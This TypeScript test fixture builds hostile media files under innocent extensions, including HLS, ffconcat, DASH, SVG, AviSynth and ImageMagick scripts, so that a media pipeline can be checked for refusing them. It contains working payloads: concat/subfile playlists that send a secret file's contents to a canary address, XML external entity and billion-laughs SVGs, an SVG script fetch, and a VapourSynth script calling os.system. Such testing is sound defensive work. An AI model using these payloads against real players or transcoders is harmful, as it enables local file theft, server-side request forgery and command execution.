/**
 * Texts that make a player open other files or addresses, under innocent names: CVE-2016-1897, CVE-2016-1898, CVE-2017-9993,
 * CVE-2026-107695, CVE-2026-107697, CVE-2026-107698, and the formats in which the same trick works.
 */
import { gzipSync } from 'node:zlib';
import { type Canaries, type HostileFile, textBytes } from './hostile-file.types.ts';

const hls = (...lines: readonly string[]): string =>
  [
    '#EXTM3U',
    '#EXT-X-VERSION:3',
    '#EXT-X-TARGETDURATION:10',
    '#EXT-X-MEDIA-SEQUENCE:0',
    ...lines,
    '#EXT-X-ENDLIST',
    '',
  ].join('\n');
const segment = (uri: string): string => hls('#EXTINF:10.0,', uri);

type Text = readonly [name: string, tries: string, text: string];

const hlsFiles = ({ url, secret, neighbour }: Canaries): readonly Text[] => [
  ['hls-relative.mp4', 'HLS whose segment is the neighbour’s clip', segment('neighbour.mp4')],
  ['hls-absolute.mov', 'HLS with an absolute path', segment(neighbour)],
  ['hls-file-url.webm', 'HLS with a file: address', segment(`file://${neighbour}`)],
  ['hls-http.png', 'HLS that fetches an address', segment(`${url}/segment.ts`)],
  ['hls-as-wav.wav', 'HLS named .wav', segment(neighbour)],
  ['hls-as-gif.gif', 'HLS named .gif', segment(neighbour)],
  ['hls-as-mp3.mp3', 'HLS named .mp3', segment(neighbour)],
  ['hls-as-jpg.jpg', 'HLS named .jpg', segment(neighbour)],
  [
    'hls-concat-subfile.mp4',
    'CVE-2016-1897 a file’s lines sent away in an address',
    segment(`concat:${url}/header.m3u8|subfile,,start,0,end,9999,,:${secret}`),
  ],
  [
    'hls-concat-tail.mp4',
    'CVE-2016-1898 the same with byte ranges',
    hls('#EXT-X-BYTERANGE:100@0', '#EXTINF:10,', `concat:${url}/h.m3u8|file://${secret}`),
  ],
  [
    'hls-key.mp4',
    'HLS whose key is fetched from an address',
    hls(`#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"`, '#EXTINF:10,', neighbour),
  ],
  ['hls-crypto.mp4', 'HLS with crypto+file', segment(`crypto+file://${neighbour}`)],
  [
    'hls-map.mp4',
    'HLS whose initialisation is the neighbour’s clip',
    hls(`#EXT-X-MAP:URI="${neighbour}"`, '#EXTINF:10,', neighbour),
  ],
  [
    'hls-master.mp4',
    'CVE-2026-107697 a child playlist passes the whitelists',
    `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile://${neighbour}\n#EXT-X-STREAM-INF:BANDWIDTH=2\n${url}/child.m3u8\n`,
  ],
  [
    'hls-self.mp4',
    'CVE-2026-107695 a master playlist that names itself',
    '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhls-self.mp4\n#EXT-X-STREAM-INF:BANDWIDTH=2\nhls-self.mp4\n',
  ],
  ['hls-self-segment.mp4', 'CVE-2026-107695 a playlist whose segments are itself', segment('hls-self-segment.mp4')],
  [
    'hls-media.mp4',
    'HLS with another sound track',
    `#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="${url}/a.m3u8"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n${neighbour}\n`,
  ],
  [
    'hls-data.mp4',
    'HLS within HLS by a data: address',
    segment(`data:application/x-mpegurl,${encodeURIComponent(segment(neighbour))}`),
  ],
  ['hls-bom.mp4', 'HLS behind a byte order mark', `\ufeff${segment(neighbour)}`],
  ['hls-blank.mp4', 'HLS behind blank lines', `\n\n  \r\n${segment(neighbour)}`],
  ['hls-crlf.mp4', 'HLS with other line ends', segment(neighbour).replaceAll('\n', '\r\n')],
  ['hls-long.mp4', 'HLS behind 70 kB of comments', `#EXTM3U\n${'# x\n'.repeat(17_000)}${segment(neighbour)}`],
  [
    'hls-live.mp4',
    'HLS without an end, asked again for ever',
    `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${url}/a.ts\n`,
  ],
];

const lists = ({ url, host, secret, neighbour }: Canaries): readonly Text[] => [
  ['concat-relative.mp4', 'ffconcat that names the neighbour’s clip', 'ffconcat version 1.0\nfile neighbour.mp4\n'],
  ['concat-absolute.mkv', 'ffconcat with an absolute path', `ffconcat version 1.0\nfile '${neighbour}'\n`],
  ['concat-http.webm', 'ffconcat that fetches an address', `ffconcat version 1.0\nfile ${url}/x.mp4\n`],
  ['concat-bare.mp4', 'concat without its first line', `file '${neighbour}'\nduration 5\n`],
  ['concat-bom.mp4', 'ffconcat behind a byte order mark', `\ufeffffconcat version 1.0\nfile '${neighbour}'\n`],
  [
    'concat-subfile.png',
    'ffconcat with subfile',
    `ffconcat version 1.0\nfile 'subfile,,start,0,end,999,,:${secret}'\n`,
  ],
  ['concat-options.mp4', 'ffconcat that sets options', `ffconcat version 1.0\nfile '${neighbour}'\noption safe 0\n`],
  ['m3u.mp3', 'a plain list of files', `${neighbour}\n${url}/a.mp3\n`],
  ['pls.mp3', 'a PLS list', `[playlist]\nFile1=${url}/a.mp3\nFile2=${neighbour}\nNumberOfEntries=2\nVersion=2\n`],
  [
    'xspf.mp4',
    'an XSPF list',
    `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>file://${neighbour}</location></track></trackList></playlist>`,
  ],
  ['asx.wmv', 'an ASX list', `<asx version="3.0"><entry><ref href="${url}/a.wmv"/></entry></asx>`],
  ['smil.mov', 'SMIL', `<smil><body><video src="${neighbour}"/></body></smil>`],
  [
    'qtlink.mov',
    'a QuickTime media link',
    `<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="${url}/a.mov" autoplay="true"/>`,
  ],
  ['rtsptext.mov', 'a QuickTime RTSP reference', `RTSPtextRTSP://${host}/a\r\n`],
  ['ram.rm', 'CVE-2026-107698 a list with an RTSP address', `rtsp://${host}/a.rm\n`],
  [
    'dash.mp4',
    'DASH whose base is an address',
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT5S"><BaseURL>${url}/</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  ],
  [
    'dash-file.mp4',
    'DASH that names the neighbour’s clip',
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT5S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>file://${neighbour}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  ],
  [
    'dash-entity.mp4',
    'DASH with an external entity',
    `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${secret}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>&x;</BaseURL></MPD>`,
  ],
  [
    'imf.mxf',
    'an IMF composition list',
    `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><SegmentList/></CompositionPlaylist>`,
  ],
  [
    'ism.mp4',
    'a Smooth Streaming manifest',
    '<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2"><StreamIndex Type="video" Url="x"/></SmoothStreamingMedia>',
  ],
  [
    'sdp.mp4',
    'SDP that listens for a stream',
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${host.split(':')[1]} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
  ],
  ['cue.wav', 'a cue sheet', `FILE "${neighbour}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`],
  ['avs.avi', 'an AviSynth script', `LoadPlugin("${secret}")\nDirectShowSource("${neighbour}")\n`],
  ['vpy.mp4', 'a VapourSynth script', `import os\nos.system("id")\n`],
  ['lavfi.mp4', 'a filter graph', `movie=${neighbour}[out0]`],
  ['edl.mp4', 'an mpv edit list', `# mpv EDL v0\n${neighbour}\n`],
  ['ffmetadata.mp4', 'an FFmpeg metadata file', ';FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\nEND=1\n'],
  [
    'mvg.png',
    'ImageMagick’s drawing language',
    `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 '${url}/x.png'\npop graphic-context\n`,
  ],
  [
    'msl.jpg',
    'ImageMagick’s script',
    `<?xml version="1.0"?><image><read filename="${neighbour}"/><write filename="/tmp/pwned"/></image>`,
  ],
];

const subtitles = ({ url }: Canaries): readonly Text[] => [
  [
    'ass.mp4',
    'ASS subtitles',
    `[Script Info]\nScriptType: v4.00+\n[Events]\nDialogue: 0,0:00:00.00,0:00:05.00,x,,0,0,0,,{\\fn${url}}x\n`,
  ],
  ['srt.mp4', 'SRT subtitles', '1\n00:00:00,000 --> 00:00:01,000\nx\n'],
  ['vtt.webm', 'WebVTT subtitles', 'WEBVTT\n\n00:00.000 --> 00:01.000\nx\n'],
  ['sami.mp4', 'SAMI subtitles', '<SAMI><BODY><SYNC Start=0><P>x</BODY></SAMI>'],
];

const drawings = ({ url, secret, neighbour }: Canaries): readonly Text[] => [
  [
    'svg.png',
    'SVG named .png with an image from this disk',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image width="64" height="64" xlink:href="file://${neighbour}"/></svg>`,
  ],
  [
    'svg.svg',
    'SVG that fetches an address',
    `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><image width="64" height="64" href="${url}/a.png"/></svg>`,
  ],
  [
    'svg-entity.jpg',
    'SVG with an external entity',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${secret}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  ],
  [
    'svg-laughs.png',
    'SVG whose entities unfold a billionfold',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${'bcdefghij'
      .split('')
      .map((n, i) => `<!ENTITY ${n} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)
      .join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
  ],
  [
    'svg-script.webp',
    'SVG with a script',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://127.0.0.1")</script></svg>',
  ],
  [
    'svg-late.png',
    'SVG behind a long comment',
    `<!--${' '.repeat(5000)}--><svg xmlns="http://www.w3.org/2000/svg"><image href="file://${neighbour}"/></svg>`,
  ],
  ['html.mp4', 'HTML', `<!doctype html><video src="${url}/a.mp4">`],
];

const wearing = (texts: readonly Text[]): readonly HostileFile[] =>
  texts.map(([name, tries, text]) => ({ name, tries, fate: 'refused', bytes: textBytes(text) }));

/** Playlists, scripts and drawings; all to be refused. */
export const playlists = (canaries: Canaries): readonly HostileFile[] => {
  const secondTag = Buffer.from('494433030000000000115449543200000007000000746974746c65', 'hex');
  const list = segment(canaries.neighbour);
  return [
    ...wearing([...hlsFiles(canaries), ...lists(canaries), ...subtitles(canaries), ...drawings(canaries)]),
    {
      name: 'hls-id3.mp3',
      tries: 'HLS behind an ID3 tag',
      fate: 'refused',
      bytes: Buffer.concat([secondTag, textBytes(list)]),
    },
    { name: 'hls-utf16.mp4', tries: 'HLS in UTF-16', fate: 'refused', bytes: Buffer.from(`\ufeff${list}`, 'utf16le') },
    { name: 'hls-gzip.mp4', tries: 'HLS, compressed', fate: 'refused', bytes: gzipSync(list) },
    {
      name: 'svgz.png',
      tries: 'SVG, compressed',
      fate: 'refused',
      bytes: gzipSync(`<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${canaries.neighbour}"/></svg>`),
    },
  ];
};
